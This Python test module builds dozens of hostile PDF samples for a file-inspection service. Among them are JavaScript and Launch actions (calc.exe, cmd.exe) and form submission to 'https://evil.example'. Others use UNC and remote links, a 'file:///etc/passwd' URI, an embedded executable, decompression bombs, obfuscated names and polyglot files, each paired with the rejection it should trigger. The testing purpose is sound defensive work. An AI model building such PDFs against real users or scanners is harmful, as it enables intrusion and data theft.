"""Hostile PDF files."""

import io
import re
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf

from tests.inspection import good
from tests.inspection.hostile import ZIP, Hostile, R, case

Change = Callable[[Pdf], None]
SCRIPT = "app.alert(1)"


def action(**entries: Any) -> Dictionary:
    return Dictionary(**entries)


def opening(**entries: Any) -> Change:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = action(**entries)

    return change


def note(**entries: Any) -> Change:
    """Something to click on in the page."""

    def change(document: Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(made)])

    return change


def unreferenced(**entries: Any) -> Change:
    """Held by the information dictionary, under a key that nobody follows."""

    def change(document: Pdf) -> None:
        document.docinfo["/Anders"] = document.make_indirect(Dictionary(**entries))

    return change


def named_script(document: Pdf) -> None:
    tree = Dictionary(Names=Array(["x", document.make_indirect(action(S=Name.JavaScript, JS=SCRIPT))]))
    document.Root.Names = Dictionary(JavaScript=tree)


def page_script(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=action(S=Name.JavaScript, JS=SCRIPT))


def stream_script(document: Pdf) -> None:
    document.Root.OpenAction = action(S=Name.JavaScript, JS=document.make_stream(SCRIPT.encode()))


def field_script(code: str) -> Change:
    def change(document: Pdf) -> None:
        good.form("bedrag", "12")(document)
        document.Root.AcroForm.Fields[0].AA = Dictionary(F=action(S=Name.JavaScript, JS=code))

    return change


def attached(document: Pdf) -> None:
    document.attachments["loonstrook.exe"] = b"MZ"


def portfolio(document: Pdf) -> None:
    document.Root.Collection = Dictionary(Type=Name.Collection)


def xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def flood(document: Pdf) -> None:
    image = document.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=60000, Height=60000)
    document.pages[0].obj.Resources.XObject = Dictionary(Im0=image)


def huge_page(document: Pdf) -> None:
    document.pages[0].obj.MediaBox = Array([0, 0, 900_000, 900_000])


def unit_page(document: Pdf) -> None:
    document.pages[0].obj.UserUnit = 5_000


def elsewhere(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = Dictionary(Type=Name.Filespec, F="//evil/x")
    document.pages[0].obj.Contents = stream


def no_pages(document: Pdf) -> None:
    del document.pages[0]


def many_pages(document: Pdf) -> None:
    for _number in range(2_100):
        document.pages.append(document.pages[0])


def many_with_number(document: Pdf) -> None:
    """More pages than are made into pictures to hide a number."""
    document.pages[0].obj.Contents = document.make_stream(b"BT /F1 9 Tf 60 700 Td (BSN 123456782) Tj ET")
    for _number in range(60):
        document.add_blank_page()


def nested(document: Pdf) -> None:
    inner: Any = Array([])
    for _depth in range(300):
        inner = Array([inner])
    document.Root.Anders = inner


def endless_words(document: Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(
        b"BT /F1 9 Tf " + b"(AAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj " * 1_400_000
    )


def bomb(document: Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(b"q Q " * 60_000_000)


def packed_twice(document: Pdf) -> None:
    content = zlib.compress(zlib.compress(b"q Q " * 1_000_000, 9), 9)
    stream = document.make_stream(content, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    document.pages[0].obj.Contents = stream


def twice() -> bytes:
    level = pikepdf.StreamDecodeLevel.none
    return good.pdf(change=packed_twice, stream_decode_level=level, compress_streams=False)


def escaped() -> bytes:
    """/JavaScript and /JS with one letter written as a number."""
    return good.pdf(change=opening(S=Name.JavaScript, JS=SCRIPT)).replace(b"/JavaScript", b"/JavaScr#69pt")


def earlier_version() -> bytes:
    """What was started in an earlier version is still in the file, behind what replaced it."""
    first = good.pdf(change=opening(S=Name.Launch, F="calc.exe"))
    number = re.search(rb"(\d+) 0 obj\n?<<[^>]*?/OpenAction.*?endobj", first, re.DOTALL)
    assert number
    start = len(first)
    pages = re.search(rb"/Pages (\d+) 0 R", first)
    assert pages
    update = b"%s 0 obj\n<</Type/Catalog/Pages %s 0 R>>\nendobj\n" % (number[1], pages[1])
    old = re.findall(rb"startxref\n(\d+)", first)[-1]
    table = b"xref\n%s 1\n%010d 00000 n \n" % (number[1], start)
    trailer = b"trailer\n<</Size 9/Root %s 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        number[1],
        old,
        start + len(update),
    )
    return first + update + table + trailer


def unindexed() -> bytes:
    """No table of objects: a reader that mends finds one more than a reader that does not."""
    body = good.pdf(change=opening(S=Name.JavaScript, JS=SCRIPT))
    return re.sub(rb"startxref\n\d+", b"startxref\n7", body)


def encrypted(password: str) -> Callable[[], bytes]:
    return lambda: good.pdf(encryption=Encryption(user=password, owner="owner", R=6))


def with_objects_packed(change: Change) -> Callable[[], bytes]:
    return lambda: good.pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def made(change: Change) -> Callable[[], bytes]:
    return lambda: good.pdf(change=change)


def with_two_ends() -> bytes:
    file = io.BytesIO(good.pdf())
    return file.getvalue() + ZIP + b"\n%%EOF\n"


JS = {"S": Name.JavaScript, "JS": SCRIPT}
ACTIVE: dict[str, tuple[Callable[[], bytes], R]] = {
    "script-opening": (made(opening(**JS)), R.SCRIPT),
    "script-named": (made(named_script), R.SCRIPT),
    "script-page": (made(page_script), R.SCRIPT),
    "script-stream": (made(stream_script), R.SCRIPT),
    "script-packed": (with_objects_packed(named_script), R.SCRIPT),
    "script-escaped": (escaped, R.SCRIPT),
    "script-field": (made(field_script("this.submitForm('https://evil.example')")), R.SCRIPT),
    "script-behind-format": (made(field_script('AFNumber_Format(2,0,0,0,"",true); app.alert(1)')), R.SCRIPT),
    "script-inside-format": (made(field_script("AFNumber_Format(app.alert(1))")), R.SCRIPT),
    "script-in-words": (made(field_script('AFNumber_Format("\\u0022+app.alert(1)+\\u0022")')), R.SCRIPT),
    "script-hidden": (made(unreferenced(**JS)), R.SCRIPT),
    "script-next": (made(opening(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(**JS))), R.SCRIPT),
    "script-unindexed": (unindexed, R.SCRIPT),
    "launch": (made(opening(S=Name.Launch, F="calc.exe")), R.LAUNCH),
    "launch-note": (made(note(Subtype=Name.Link, A=action(S=Name.Launch, Win=Dictionary(F="cmd.exe")))), R.LAUNCH),
    "launch-packed": (with_objects_packed(opening(S=Name.Launch, F="calc.exe")), R.LAUNCH),
    "launch-hidden": (made(unreferenced(S=Name.Launch, F="x")), R.LAUNCH),
    "launch-earlier": (earlier_version, R.LAUNCH),
    "media": (made(note(Subtype=Name.RichMedia)), R.LAUNCH),
    "movie": (made(note(Subtype=Name.Movie)), R.LAUNCH),
    "sound": (made(note(Subtype=Name.Sound)), R.LAUNCH),
    "three": (made(note(Subtype=Name("/3D"))), R.LAUNCH),
    "screen": (made(note(Subtype=Name.Screen)), R.LAUNCH),
    "rendition": (made(opening(S=Name.Rendition)), R.LAUNCH),
    "attached": (made(attached), R.EMBEDDED),
    "attached-note": (made(note(Subtype=Name.FileAttachment)), R.EMBEDDED),
    "portfolio": (made(portfolio), R.EMBEDDED),
    "embedded-goto": (made(opening(S=Name.GoToE)), R.EMBEDDED),
    "form-xfa": (made(xfa), R.SCRIPT),
    "submit": (made(opening(S=Name.SubmitForm, F="https://evil.example")), R.OUTSIDE),
    "import": (made(opening(S=Name.ImportData, F="x")), R.OUTSIDE),
    "remote": (made(opening(S=Name.GoToR, F="//evil/x")), R.OUTSIDE),
    "address-file": (made(note(Subtype=Name.Link, A=action(S=Name.URI, URI="file:///etc/passwd"))), R.OUTSIDE),
    "address-script": (made(note(Subtype=Name.Link, A=action(S=Name.URI, URI="javascript:alert(1)"))), R.OUTSIDE),
    "address-unc": (made(note(Subtype=Name.Link, A=action(S=Name.URI, URI="\\\\evil\\x"))), R.OUTSIDE),
    "elsewhere": (made(elsewhere), R.OUTSIDE),
    "password": (encrypted("geheim"), R.PASSWORD),
}


def of_pdf() -> list[Hostile]:
    active = [case(f"pdf-{id_}", "loonstrook.pdf", make, reason) for id_, (make, reason) in ACTIVE.items()]
    whole = good.pdf()
    name = "taxatie.pdf"
    return [
        *active,
        case("pdf-cut", name, whole[: len(whole) // 2], R.DAMAGED),
        case("pdf-no-end", name, whole.replace(b"%%EOF", b""), R.DAMAGED),
        case("pdf-only-head", name, b"%PDF-1.7\n", R.DAMAGED),
        case("pdf-no-objects", name, b"%PDF-1.7\n%%EOF\n", R.DAMAGED),
        case("pdf-noise", name, b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF", R.DAMAGED),
        case("pdf-and-zip", name, whole + ZIP, R.DAMAGED, R.TWO_IN_ONE),
        case("pdf-and-zip-inside", name, with_two_ends, R.TWO_IN_ONE, R.DAMAGED),
        case("pdf-and-page", name, whole + b"<script>alert(1)</script>", R.DAMAGED),
        case("page-before-pdf", name, b"<html><script>alert(1)</script>" + whole, R.UNKNOWN),
        case("pdf-words-before", name, b"xx" + whole, R.MISMATCH, R.UNKNOWN),
        case("pdf-no-pages", name, made(no_pages), R.DAMAGED),
        case("pdf-many-pages", name, made(many_pages), R.TOO_MUCH),
        case("pdf-nested", name, made(nested), R.DAMAGED),
        case("pdf-pixels", name, made(flood), R.TOO_MANY_PIXELS),
        case("pdf-large-page", name, made(huge_page), R.TOO_MANY_PIXELS),
        case("pdf-large-unit", name, made(unit_page), R.TOO_MANY_PIXELS),
        case("pdf-endless-words", name, made(endless_words), R.TOO_MUCH, slow=True),
        case("pdf-bomb", name, made(bomb), R.TOO_MUCH, slow=True),
        case("pdf-packed-twice", name, twice, R.TOO_MUCH),
        case("pdf-bsn-many-pages", name, made(many_with_number), R.BSN),
    ]
